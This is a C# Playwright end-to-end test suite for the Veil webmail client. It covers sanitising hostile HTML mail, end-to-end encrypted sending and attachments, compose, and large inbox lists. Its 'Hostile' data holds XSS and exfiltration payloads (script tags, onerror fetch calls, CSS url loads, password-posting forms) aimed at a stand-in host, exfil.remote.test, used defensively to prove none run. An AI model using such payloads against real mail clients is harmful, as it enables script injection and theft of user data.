using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;
using Veil.Cli.Tests;
using Veil.Mail.Smtp;
using Veil.Mail.Spool;
using Veil.Server.Tests.Kit;

namespace Veil.E2E.Tests;

/// <summary>
/// The mailbox in Chromium (issue 21 points 1–3) against the real server: mail arrives by SMTP on loopback (sealed on
/// arrival) or end to end from `veil mail send`; the page unlocks the address keys from the user key, lists the Inbox
/// from summaries decrypted in its worker, and opens messages. A corpus of hostile HTML runs no script and makes no
/// request at all (every request the browser makes is recorded, and any request off loopback is answered here, never
/// by the network); remote images load only after the click, tracking pixels never.
/// </summary>
[Collection(BrowserTests.Name)]
public sealed class WebmailBrowserTests(Browser browser) : IAsyncLifetime
{
    private const string Domain = "mail.example";
    private const string Owner = "reader@example.org";
    private const string Password = CliAccounts.StrongPassword;

    private readonly string _root = Directory.CreateTempSubdirectory("veil-webmail-e2e-").FullName;
    private readonly string _senderZone = "s" + Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(4)) + ".test";
    private readonly List<string> _requests = [];
    private readonly List<string> _offLoopback = [];
    private readonly List<string> _problems = [];
    private LoopbackDns _dns = null!;
    private VeilTestServer _server = null!;
    private IBrowserContext _context = null!;
    private IPage _page = null!;
    private int _smtpPort;

    public async Task InitializeAsync()
    {
        _smtpPort = FreePort();
        _dns = await LoopbackDns.StartAsync(_senderZone);
        _server = await VeilTestServer.StartAsync(o =>
        {
            o.Settings["Veil:Mail:Domains:0"] = Domain;
            o.Settings["Veil:Mail:Smtp:Listen"] = "127.0.0.1:" + _smtpPort.ToString(CultureInfo.InvariantCulture);
            o.Settings["Veil:Dns:Servers"] = _dns.Servers;
            o.Settings["Veil:Dns:Timeout"] = "00:00:00.3";
        });
        _context = await browser.NewContextAsync();
        _context.Request += (_, request) =>
        {
            lock (_requests)
            {
                _requests.Add(request.Method + " " + request.Url + "\n" + request.PostData);
            }
        };
        // Nothing leaves loopback: a request to any other host is recorded and answered here (a 1×1 PNG that allows
        // cross-origin embedding), so the test can tell exactly which remote loads the page attempted.
        await _context.RouteAsync(url => !new Uri(url).IsLoopback, async route =>
        {
            lock (_offLoopback)
            {
                _offLoopback.Add(route.Request.Url);
            }

            await route.FulfillAsync(new()
            {
                Status = 200,
                ContentType = "image/png",
                BodyBytes = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="),
                Headers = new Dictionary<string, string> { ["Cross-Origin-Resource-Policy"] = "cross-origin" },
            });
        });
        _page = await _context.NewPageAsync();
        _page.Console += (_, message) =>
        {
            // DOMPurify parses the hostile HTML in an inert document of the page, and Chromium reports the page CSP
            // refusing the corpus's inline handlers, inline styles and <base> there ("blocked"): the defence working,
            // not a fault of the page. Any other error, and any other CSP report, counts.
            if (message.Type == "error" && !message.Text.StartsWith("Failed to load resource: the server responded with a status of 4", StringComparison.Ordinal)
                && !(message.Text.EndsWith("The action has been blocked.", StringComparison.Ordinal)
                     && (message.Text.StartsWith("Executing inline event handler violates", StringComparison.Ordinal)
                         || message.Text.StartsWith("Applying inline style violates", StringComparison.Ordinal)
                         || message.Text.StartsWith("Setting the document's base URI to 'https://exfil.remote.test/'", StringComparison.Ordinal))))
            {
                lock (_problems)
                {
                    _problems.Add("console: " + message.Text);
                }
            }
        };
        _page.PageError += (_, error) =>
        {
            lock (_problems)
            {
                _problems.Add("page error: " + error);
            }
        };
    }

    public async Task DisposeAsync()
    {
        if (_context is not null)
        {
            await _context.DisposeAsync();
        }

        await _server.DisposeAsync();
        await _dns.DisposeAsync();
        Directory.Delete(_root, recursive: true);
    }

    public static TheoryData<string, string> Hostile => new()
    {
        { "script tag", "<p>Hello</p><script>window.__pwned = 1; new Image().src = 'https://exfil.remote.test/script';</script>" },
        { "event handlers", "<img src=\"x\" onerror=\"window.__pwned = 1; fetch('https://exfil.remote.test/onerror')\"><p onclick=\"window.__pwned = 1\">Hi</p><body onload=\"window.__pwned = 1\">" },
        { "javascript link", "<a id=\"go\" href=\"javascript:window.__pwned = 1\">Claim your prize</a>" },
        { "css exfiltration", "<div style=\"background: url(https://exfil.remote.test/css-attr)\">x</div><style>@import url(https://exfil.remote.test/import.css); body { background: url(https://exfil.remote.test/css-tag) } @font-face { font-family: f; src: url(https://exfil.remote.test/font.woff) }</style><p>styled</p>" },
        { "remote images", "<p>Our new catalogue</p><img src=\"https://images.remote.test/photo.png\" width=\"200\" height=\"100\" alt=\"photo\"><img src=\"https://track.remote.test/pixel.gif\" width=\"1\" height=\"1\">" },
        { "form", "<form action=\"https://exfil.remote.test/form\" method=\"post\"><input name=\"password\" value=\"x\"><button>Log in</button></form>" },
        { "meta refresh", "<meta http-equiv=\"refresh\" content=\"0; url=https://exfil.remote.test/refresh\"><p>wait</p>" },
        { "svg with script", "<svg><script>window.__pwned = 1</script><image href=\"https://exfil.remote.test/svg-image\"/></svg><svg onload=\"window.__pwned = 1\"></svg>" },
        { "base", "<base href=\"https://exfil.remote.test/\"><img src=\"relative.png\" alt=\"r\"><a href=\"relative\">relative link</a>" },
        { "frames and plugins", "<iframe src=\"https://exfil.remote.test/frame\"></iframe><object data=\"https://exfil.remote.test/object\"></object><embed src=\"https://exfil.remote.test/embed\">" },
        { "link and media", "<link rel=\"stylesheet\" href=\"https://exfil.remote.test/link.css\"><video poster=\"https://exfil.remote.test/poster\"></video><table background=\"https://exfil.remote.test/bg\"><tr><td>cell</td></tr></table>" },
    };

    [ChromiumFact]
    public async Task HostileHtml_RunsNoScript_MakesNoRequest_RemoteImagesOnlyAfterTheClick_TrackersNever()
    {
        var address = await SignUpWithAddressAsync();
        var corpus = Hostile.Select(row => ((string)row[0], (string)row[1])).ToList();
        foreach (var (name, html) in corpus)
        {
            await SmtpAsync(address, Html("Hostile: " + name, html));
        }

        await OpenMailboxAsync();
        await _page.GetByRole(AriaRole.Option).Nth(corpus.Count - 1).WaitForAsync();
        foreach (var (name, _) in corpus)
        {
            var before = Requests().Count;
            await _page.GetByRole(AriaRole.Option).Filter(new() { HasText = "Hostile: " + name }).ClickAsync();
            await _page.GetByRole(AriaRole.Heading, new() { Name = "Hostile: " + name }).WaitForAsync();
            var frame = await (await _page.WaitForSelectorAsync("iframe.mail-frame"))!.ContentFrameAsync();
            await frame!.WaitForLoadStateAsync(LoadState.Load);

            var sandbox = await _page.GetAttributeAsync("iframe.mail-frame", "sandbox");
            Assert.DoesNotContain("allow-scripts", sandbox, StringComparison.Ordinal);
            Assert.DoesNotContain("allow-same-origin", sandbox, StringComparison.Ordinal);
            var srcdoc = (await _page.GetAttributeAsync("iframe.mail-frame", "srcdoc"))!;
            Assert.Contains("default-src 'none'; img-src data: blob:;", srcdoc, StringComparison.Ordinal);
            foreach (var hostile in new[] { "<script", "onerror", "onload", "onclick", "javascript:", "<style", "style=", "<form", "<base", "<meta http-equiv=\"refresh", "<iframe", "<object", "<embed", "<link", "<svg", "exfil.remote.test" })
            {
                Assert.DoesNotContain(hostile, srcdoc[srcdoc.IndexOf("<body>", StringComparison.Ordinal)..], StringComparison.OrdinalIgnoreCase);
            }

            Assert.True(await _page.EvaluateAsync<bool>("() => window.__pwned === undefined"));
            Assert.True(await frame.EvaluateAsync<bool>("() => window.__pwned === undefined"));
            if (name == "javascript link")
            {
                await frame.ClickAsync("text=Claim your prize");
            }

            // Everything the page asked for while opening this message: the sealed copy (and a key lookup), same origin.
            var opened = Requests().Skip(before).ToList();
            Assert.All(opened, r => Assert.StartsWith("GET " + _server.BaseAddress.ToString().TrimEnd('/') + "/api/v1/mail/", r, StringComparison.Ordinal));
            lock (_offLoopback)
            {
                Assert.Empty(_offLoopback);
            }
        }

        await ScreenshotAsync("webmail-hostile-blocked");
        await AssertAccessibleAsync();

        // Remote images: offered, loaded only on the click; the tracking pixel stays out even then.
        await _page.GetByRole(AriaRole.Option).Filter(new() { HasText = "Hostile: remote images" }).ClickAsync();
        await _page.GetByText("1 tracking pixel was removed.").WaitForAsync();
        lock (_offLoopback)
        {
            Assert.Empty(_offLoopback);
        }

        var load = await _page.RunAndWaitForRequestAsync(
            () => _page.GetByRole(AriaRole.Button, new() { Name = "Load remote images" }).ClickAsync(),
            r => r.Url == "https://images.remote.test/photo.png");
        Assert.NotNull(load);
        var frameAfter = await (await _page.WaitForSelectorAsync("iframe.mail-frame"))!.ContentFrameAsync();
        await frameAfter!.WaitForLoadStateAsync(LoadState.Load);
        lock (_offLoopback)
        {
            Assert.Equal(["https://images.remote.test/photo.png"], _offLoopback);
        }

        await ScreenshotAsync("webmail-remote-images-loaded");
        AssertNoPageProblems();
    }

    [ChromiumFact]
    public async Task CliEndToEndMail_ReadsInThePage_WithAValidSignature_AndBothAttachmentKindsSaveByteIdentical()
    {
        var address = await SignUpWithAddressAsync();
        var sender = new VeilCli(_server.BaseAddress, Path.Combine(_root, "sender"));
        await sender.SignUpAsync(_server, "sender@example.org");
        var from = "sender." + Hex(3) + "@" + Domain;
        CliAccounts.Ok(await sender.RunAsync(["mail", "address", "add", from, "--password-stdin"], Password + "\n"));
        var canary = "end-to-end canary " + Hex(6);
        var file = RandomNumberGenerator.GetBytes(20_000);
        var attachment = Path.Combine(_root, "plan.bin");
        await File.WriteAllBytesAsync(attachment, file);
        var large = RandomNumberGenerator.GetBytes(70_000);
        var largePath = Path.Combine(_root, "scan.bin");
        await File.WriteAllBytesAsync(largePath, large);
        CliAccounts.Ok(await sender.RunAsync(
            ["mail", "send", "--from", from, "--to", address, "--subject", "Plans " + canary, "--body", "The body says " + canary, "--attach", attachment, "--attach", largePath,
             "--inline-max", "50000", "--password-stdin"],
            Password + "\n"));
        await SmtpAsync(address, "From: <news@" + _senderZone + ">\r\nTo: <" + address + ">\r\nSubject: Plain news\r\nMessage-ID: <n1@" + _senderZone + ">\r\n\r\nJust text from outside.\r\n");

        await OpenMailboxAsync();
        await ScreenshotAsync("webmail-inbox");
        await _page.GetByRole(AriaRole.Option).Filter(new() { HasText = "Plans " + canary }).ClickAsync();
        await _page.GetByText("End-to-end encrypted and signed by " + from).WaitForAsync();
        Assert.Contains("The body says " + canary, await _page.InnerTextAsync(".mail-reader"), StringComparison.Ordinal);
        await AssertAccessibleAsync();
        await ScreenshotAsync("webmail-message-open");
        var download = await _page.RunAndWaitForDownloadAsync(() => _page.GetByRole(AriaRole.Button, new() { Name = "Download plan.bin" }).ClickAsync());
        var saved = Path.Combine(_root, "saved.bin");
        await download.SaveAsAsync(saved);
        Assert.Equal(file, await File.ReadAllBytesAsync(saved));

        // The large attachment (stored apart, Cobblestone-256): fetched, decrypted and verified in the page.
        download = await _page.RunAndWaitForDownloadAsync(() => _page.GetByRole(AriaRole.Button, new() { Name = "Download scan.bin" }).ClickAsync());
        var savedLarge = Path.Combine(_root, "saved-large.bin");
        await download.SaveAsAsync(savedLarge);
        Assert.Equal(large, await File.ReadAllBytesAsync(savedLarge));

        // Mail from outside: sealed by the server on arrival, unsigned, with its SPF/DKIM/DMARC verdicts shown.
        await _page.GetByRole(AriaRole.Option).Filter(new() { HasText = "Plain news" }).ClickAsync();
        await _page.GetByText("Zero-access: the sender sent this in clear").WaitForAsync();
        Assert.Contains("SPF", await _page.InnerTextAsync(".mail-security"), StringComparison.Ordinal);
        Assert.Contains("Just text from outside.", await _page.InnerTextAsync(".mail-reader"), StringComparison.Ordinal);

        // j/k move the selection, # deletes on the server.
        await _page.Locator(".mail-list").FocusAsync();
        await _page.Keyboard.PressAsync("k");
        await _page.Keyboard.PressAsync("#");
        await _page.GetByText("Message deleted.").WaitForAsync();
        Assert.Equal(1, await _page.GetByRole(AriaRole.Option).CountAsync());

        lock (_requests)
        {
            Assert.DoesNotContain(_requests, r => r.Contains(canary, StringComparison.Ordinal) || r.Contains(Password, StringComparison.Ordinal));
        }

        AssertNoPageProblems();
    }

    [ChromiumFact]
    public async Task ComposedInThePage_ToAVeilUser_TheCliReadsItSigned_TheSplitIsShownFirst_NoCanaryInAnyRequest()
    {
        var address = await SignUpWithAddressAsync();
        var bob = new VeilCli(_server.BaseAddress, Path.Combine(_root, "bob"));
        await bob.SignUpAsync(_server, "bob@example.org");
        var bobAddress = "bob." + Hex(3) + "@" + Domain;
        CliAccounts.Ok(await bob.RunAsync(["mail", "address", "add", bobAddress, "--password-stdin"], Password + "\n"));
        var canary = "compose canary " + Hex(6);

        await OpenMailboxAsync();
        await _page.GetByRole(AriaRole.Button, new() { Name = "Compose" }).ClickAsync();
        await _page.GetByLabel("To", new() { Exact = true }).FillAsync(bobAddress + ", friend@elsewhere.test");
        await _page.GetByLabel("Subject").FillAsync("Subject " + canary);
        await _page.GetByLabel("Message", new() { Exact = true }).FillAsync("Body " + canary + "\nSecond line.");
        await _page.GetByRole(AriaRole.Button, new() { Name = "Check recipients" }).ClickAsync();
        await _page.GetByText("End-to-end (Veil users, encrypted in this page and signed): " + bobAddress).WaitForAsync();
        await _page.GetByText("Normal mail (no Veil key: the server sends them the message in clear): friend@elsewhere.test").WaitForAsync();
        await AssertAccessibleAsync();
        await ScreenshotAsync("webmail-compose-split");

        await _page.GetByLabel("To", new() { Exact = true }).FillAsync(bobAddress);
        await _page.GetByRole(AriaRole.Button, new() { Name = "Check recipients" }).ClickAsync();
        await _page.GetByRole(AriaRole.Button, new() { Name = "Send", Exact = true }).ClickAsync();
        await _page.GetByText("Sent end-to-end to " + bobAddress + ".").WaitForAsync(new() { Timeout = 60_000 });

        var list = CliAccounts.Ok(await bob.RunAsync(["mail", "list", "--json", "--password-stdin"], Password + "\n")).Json.Single().GetProperty("messages").EnumerateArray().ToList();
        var row = Assert.Single(list);
        Assert.Equal("Subject " + canary, row.GetProperty("summary").GetProperty("subject").GetString());
        var read = CliAccounts.Ok(await bob.RunAsync(["mail", "read", row.GetProperty("id").GetString()!, "--password-stdin"], Password + "\n"));
        Assert.Contains("Body " + canary, read.Stdout, StringComparison.Ordinal);
        Assert.Contains("Signature: valid", read.Stdout, StringComparison.Ordinal);
        Assert.Contains(address, read.Stdout, StringComparison.Ordinal);

        // The Sent copy reads in the page, signed by the sender's own key.
        await _page.GetByRole(AriaRole.Button, new() { Name = "Sent" }).ClickAsync();
        await _page.GetByRole(AriaRole.Option).Filter(new() { HasText = "Subject " + canary }).ClickAsync();
        await _page.GetByText("End-to-end encrypted and signed by " + address).WaitForAsync();

        lock (_requests)
        {
            Assert.Contains(_requests, r => r.StartsWith("POST ", StringComparison.Ordinal) && r.Contains("/api/v1/mail/messages", StringComparison.Ordinal));
            Assert.DoesNotContain(_requests, r => r.Contains("canary", StringComparison.Ordinal) || r.Contains(Convert.ToBase64String(Encoding.UTF8.GetBytes("Body " + canary)), StringComparison.Ordinal));
        }

        AssertNoPageProblems();
    }

    // On PostgreSQL this test passes alone (13 s) but times out inside the class run (waiting for the list to finish
    // decrypting, or for the opened message), in `./test.sh` and by hand; cause not found yet (issue 21 note).
    [ChromiumFact(KnownDefectOnPostgres = "times out in the class run (passes alone); see the issue 21 note")]
    public async Task ThreeHundredMessages_OnlyTheRowsInViewExist_JkMoveTheSelection_TheOldestIsReachedByScrolling()
    {
        var address = await SignUpWithAddressAsync();
        await SeedAsync(address, 300);

        await OpenMailboxAsync();
        await _page.GetByText("300 conversations").WaitForAsync();
        Assert.InRange(await _page.GetByRole(AriaRole.Option).CountAsync(), 5, 60);
        Assert.Equal("300", await _page.GetByRole(AriaRole.Option).First.GetAttributeAsync("aria-setsize"));
        await _page.Locator(".mail-list").FocusAsync();
        await _page.Keyboard.PressAsync("j");
        await _page.Keyboard.PressAsync("j");
        Assert.Contains("Message number 297", await _page.InnerTextAsync("[role=option][aria-selected=true]"), StringComparison.Ordinal);
        await _page.Keyboard.PressAsync("Enter");
        await _page.GetByRole(AriaRole.Heading, new() { Name = "Message number 297" }).WaitForAsync();

        await _page.Locator(".mail-list").EvaluateAsync("e => { e.scrollTop = e.scrollHeight; }");
        await _page.GetByRole(AriaRole.Option).Filter(new() { HasText = "Message number 0" }).WaitForAsync();
        Assert.InRange(await _page.GetByRole(AriaRole.Option).CountAsync(), 5, 60);
        Assert.Equal(0, await _page.GetByRole(AriaRole.Option).Filter(new() { HasText = "Message number 299" }).CountAsync());
        await _page.Keyboard.PressAsync("?");
        await _page.GetByRole(AriaRole.Region, new() { Name = "Keyboard shortcuts" }).WaitForAsync();
        await AssertAccessibleAsync();
        AssertNoPageProblems();
    }

    /// <summary>docs/PERFORMANCE.md: VEIL_BENCH=1 dotnet test tests/Veil.E2E.Tests --filter "FullyQualifiedName~WebmailBrowserTests.FiveThousand".</summary>
    [BenchFact]
    public async Task FiveThousandMessages_ListOpensAndScrolls_OnlyTheRowsInViewExist()
    {
        const int count = 5000;
        var address = await SignUpWithAddressAsync();
        await SeedAsync(address, count);

        await SignInAsync();
        var clock = Stopwatch.StartNew();
        await _page.GetByRole(AriaRole.Navigation, new() { Name = "Main" }).GetByRole(AriaRole.Link, new() { Name = "Mail" }).ClickAsync();
        await _page.GetByRole(AriaRole.Option).Filter(new() { HasText = "Message number 4999" }).WaitForAsync(new() { Timeout = 60_000 });
        var firstRows = clock.Elapsed;
        await _page.GetByText($"{count} conversations", new() { Exact = false }).WaitForAsync(new() { Timeout = 60_000 });
        var listed = clock.Elapsed;
        await _page.Locator(".mail-list").EvaluateAsync("e => { e.scrollTop = e.scrollHeight; }");
        await _page.GetByRole(AriaRole.Option).Filter(new() { HasText = "Sender 0 " }).WaitForAsync(new() { Timeout = 60_000 });
        var scrolled = clock.Elapsed;
        await _page.GetByText("all decrypted in this page").WaitForAsync(new() { Timeout = 300_000 });
        var decrypted = clock.Elapsed;
        var rendered = await _page.GetByRole(AriaRole.Option).CountAsync();
        await _page.Locator(".mail-list").EvaluateAsync("e => { e.scrollTop = e.scrollHeight / 2; }");
        await ScreenshotAsync("webmail-inbox-5000");
        Console.WriteLine($"webmail {count} messages: first rows {firstRows.TotalMilliseconds:F0} ms, all {count} listed {listed.TotalMilliseconds:F0} ms, scrolled to the oldest {scrolled.TotalMilliseconds:F0} ms, every summary decrypted {decrypted.TotalMilliseconds:F0} ms, rows in the DOM {rendered}");

        // A benchmark prints its numbers (docs/PERFORMANCE.md compares them with the 2 s target); what must hold on any
        // machine is that only the rows in view exist.
        Assert.True(rendered < 100, $"{rendered} rows in the DOM: the list is not virtualised");
        AssertNoPageProblems();
    }

    /// <summary>Messages 0 … count-1 sealed by the mailbox sink itself, 10 ms apart on the server's clock (the API lists by time).</summary>
    private async Task SeedAsync(string address, int count)
    {
        var sink = _server.Services.GetRequiredService<IMessageSink>();
        for (var start = 0; start < count; start += 50)
        {
            var batch = new List<Task>();
            for (var i = start; i < Math.Min(count, start + 50); i++)
            {
                _server.Time.Advance(TimeSpan.FromMilliseconds(10));
                var raw = Encoding.ASCII.GetBytes($"From: Sender {i} <s{i}@{_senderZone}>\r\nSubject: Message number {i}\r\nMessage-ID: <m{i}@{_senderZone}>\r\n\r\nBody of message {i}, a few words to make a snippet.\r\n");
                var spooled = new SpooledMessage(SpoolId.New(), new SmtpEnvelope("s@" + _senderZone, [address], false, false, _server.Time.GetUtcNow()), raw.Length);
                batch.Add(sink.ProcessAsync(spooled, new MemoryStream(raw), CancellationToken.None).AsTask());
            }

            await Task.WhenAll(batch);
        }
    }

    private async Task<string> SignUpWithAddressAsync()
    {
        var cli = new VeilCli(_server.BaseAddress, Path.Combine(_root, "owner"));
        await cli.SignUpAsync(_server, Owner);
        var address = "reader." + Hex(3) + "@" + Domain;
        CliAccounts.Ok(await cli.RunAsync(["mail", "address", "add", address, "--password-stdin"], Password + "\n"));
        return address;
    }

    private async Task SignInAsync()
    {
        await _page.GotoAsync(new Uri(_server.BaseAddress, "/signin").ToString());
        await _page.GetByLabel("Email address").FillAsync(Owner);
        await _page.GetByLabel("Master password").FillAsync(Password);
        await _page.GetByRole(AriaRole.Button, new() { Name = "Sign in", Exact = true }).ClickAsync();
        await _page.WaitForURLAsync("**/app");
    }

    private async Task OpenMailboxAsync()
    {
        await SignInAsync();
        await _page.GetByRole(AriaRole.Navigation, new() { Name = "Main" }).GetByRole(AriaRole.Link, new() { Name = "Mail" }).ClickAsync();
        await _page.GetByText("all decrypted in this page").WaitForAsync(new() { Timeout = 60_000 });
    }

    private static string Html(string subject, string html) =>
        "From: Stranger <stranger@elsewhere.test>\r\nSubject: " + subject + "\r\nMessage-ID: <" + Hex(8) + "@elsewhere.test>\r\nMIME-Version: 1.0\r\n" +
        "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
        Convert.ToBase64String(Encoding.UTF8.GetBytes(html), Base64FormattingOptions.InsertLineBreaks) + "\r\n";

    /// <summary>One SMTP transaction on the server's listener over a real socket.</summary>
    private async Task SmtpAsync(string to, string message)
    {
        using var client = new TcpClient();
        await client.ConnectAsync(IPAddress.Loopback, _smtpPort);
        await using var stream = client.GetStream();
        using var reader = new StreamReader(stream, Encoding.ASCII);
        async Task<string> Reply(string expect)
        {
            string line;
            do
            {
                line = await reader.ReadLineAsync() ?? throw new IOException("the server closed the connection");
            }
            while (line.Length > 3 && line[3] == '-');
            Assert.StartsWith(expect, line, StringComparison.Ordinal);
            return line;
        }

        async Task Send(string line) => await stream.WriteAsync(Encoding.ASCII.GetBytes(line + "\r\n"));
        await Reply("220");
        await Send("EHLO client." + _senderZone);
        await Reply("250");
        await Send("MAIL FROM:<sender@" + _senderZone + ">");
        await Reply("250");
        await Send("RCPT TO:<" + to + ">");
        await Reply("250");
        await Send("DATA");
        await Reply("354");
        var body = message.Replace("\r\n.", "\r\n..", StringComparison.Ordinal);
        await stream.WriteAsync(Encoding.ASCII.GetBytes(body + (body.EndsWith("\r\n", StringComparison.Ordinal) ? "" : "\r\n") + ".\r\n"));
        await Reply("250");
        await Send("QUIT");
        await Reply("221");
    }

    private List<string> Requests()
    {
        lock (_requests)
        {
            return [.. _requests];
        }
    }

    private void AssertNoPageProblems()
    {
        lock (_problems)
        {
            Assert.True(_problems.Count == 0, string.Join("\n", _problems));
        }
    }

    private async Task AssertAccessibleAsync()
    {
        await _page.EvaluateAsync(AxeSource.Value);
        var found = await _page.EvaluateAsync<JsonElement>("""
            async () => {
              const result = await axe.run(document, { resultTypes: ["violations"] });
              return result.violations
                .filter(v => v.impact === "serious" || v.impact === "critical")
                .map(v => v.id + " (" + v.impact + "): " + v.nodes.map(n => n.target.join(" ")).join(", "));
            }
            """);
        var violations = found.EnumerateArray().Select(v => v.GetString()).ToList();
        Assert.True(violations.Count == 0, "axe: " + string.Join("\n", violations));
    }

    private async Task ScreenshotAsync(string name)
    {
        var directory = Environment.GetEnvironmentVariable("VEIL_SCREENSHOTS") is { Length: > 0 } d ? d : Path.Combine(AppContext.BaseDirectory, "screenshots");
        Directory.CreateDirectory(directory);
        await _page.ScreenshotAsync(new() { Path = Path.Combine(directory, name + ".png") });
    }

    private static int FreePort()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        return ((IPEndPoint)listener.LocalEndpoint).Port;
    }

    private static string Hex(int bytes) => Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(bytes));

    private static readonly Lazy<string> AxeSource = new(() =>
    {
        for (var dir = new DirectoryInfo(AppContext.BaseDirectory); dir is not null; dir = dir.Parent)
        {
            var path = Path.Combine(dir.FullName, "web", "node_modules", "axe-core", "axe.min.js");
            if (File.Exists(path))
            {
                return File.ReadAllText(path);
            }
        }

        throw new InvalidOperationException("web/node_modules/axe-core/axe.min.js not found (npm ci in web/)");
    });
}
